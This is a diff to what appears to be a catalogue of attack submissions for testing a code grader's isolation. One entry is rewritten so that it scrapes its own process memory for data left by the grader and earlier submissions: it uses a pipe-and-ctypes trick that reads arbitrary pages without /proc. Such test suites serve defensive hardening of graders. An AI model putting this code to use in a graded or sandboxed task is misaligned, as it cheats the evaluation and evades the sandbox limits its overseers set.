@@ -15,20 +15,21 @@ ATTACKS = (
         what="Searches its whole memory for what earlier submissions and the grader left there.",
         code=HUNT
         + """
-import ctypes
-for line in open("/proc/self/maps"):
-    span, rights = line.split()[:2]
-    low, high = (int(n, 16) for n in span.split("-"))
-    if rights.startswith("r") and "[v" not in line and high - low < 1 << 29:
-        try:
-            with open("/proc/self/mem", "rb", 0) as memory:
-                memory.seek(low)
-                hunt(memory.read(high - low))
-        except OSError:
-            try:
-                hunt(ctypes.string_at(low, high - low))
-            except OSError:
-                pass
+import ctypes, gc, os, time
+libc = ctypes.CDLL(None)
+libc.sbrk.restype, libc.sbrk.argtypes = ctypes.c_void_p, [ctypes.c_ssize_t]
+r, w = os.pipe()
+def page(address):  # needs no /proc: the pipe refuses what is no memory
+    if libc.write(w, ctypes.c_void_p(address), 4096) == 4096:
+        return os.read(r, 4096)
+    return b""
+blocks = {id(thing) >> 22 for thing in gc.get_objects()}
+top = libc.sbrk(0) >> 22
+blocks |= set(range(top - 50, top + 2))
+end = time.monotonic() + 2
+for block in sorted(blocks):
+    if time.monotonic() < end:
+        hunt(b"".join(page((block << 22) + n) for n in range(0, 1 << 22, 4096)))
 """,
     ),
     _deep(
